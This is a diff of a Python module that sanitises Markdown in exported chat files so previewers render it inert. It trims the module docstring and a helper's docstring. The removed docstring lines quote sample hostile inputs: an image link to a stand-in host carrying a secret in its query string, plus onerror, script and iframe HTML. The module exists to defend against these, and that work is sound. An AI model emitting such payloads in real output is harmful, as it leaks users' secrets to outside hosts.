@@ -1,21 +1,12 @@
-"""Markdown that only shows what it says, for a file that a Markdown previewer may open.
+"""Markdown that only shows what it says, for an exported chat a previewer may open (what
+it makes inert is in docs/api.md; the window never renders those, a previewer would).
 
-An exported chat holds what was asked and what the model wrote, and either can carry
-Markdown that acts when it is rendered: an image the previewer fetches at once
-(``![x](http://elsewhere/leak.png?q=<secret>)``), raw HTML (``<img onerror=…>``,
-``<script>``, ``<iframe>``), a ``javascript:`` link. The window never renders those
-(ui/answer/markdown.py); a previewer would. So the file is written inert: an image becomes
-``image: alt (`url`)``, its address in a code span that nothing fetches or links; raw HTML
-is escaped, so ``<script>`` shows as text; a link to a ``javascript:``, ``vbscript:``,
-``data:`` or ``file:`` address becomes its text. Everything else stays as written.
-
-markdown-it finds those constructs as a previewer's parser would (raw HTML on, every
-link scheme followed, tables on and off), rather than regular expressions, which can't
-tell an image from the same characters in a code span. Its inline tokens carry no
-offsets, so each construct is placed by where its line's text sits in the source. The
-edited text is parsed again until nothing is found; what can't be placed has every
-``[`` and ``<`` of its block escaped, and a text still not clean after a few rounds is
-written whole in a code block.
+markdown-it finds the constructs as a previewer's parser would (raw HTML on, every link
+scheme followed, tables on and off): regular expressions can't tell an image from the same
+characters in a code span. Its inline tokens carry no offsets, so each construct is placed
+by where its line's text sits in the source. The edited text is parsed again until nothing
+is found; what can't be placed has every ``[`` and ``<`` of its block escaped, and a text
+still not clean after a few rounds is written whole in a code block.
 """
 
 from __future__ import annotations
@@ -211,8 +202,7 @@ def _escape(text: str, start: int, end: int, characters: str) -> Iterator[_Edit]
 
 
 def _live(text: str, at: int, characters: str) -> bool:
-    """Whether ``text[at]`` is one of ``characters`` and not escaped already (after an odd
-    run of backslashes)."""
+    """Whether ``text[at]`` is one of ``characters`` and not escaped by a backslash."""
     if text[at] not in characters:
         return False
     before = at
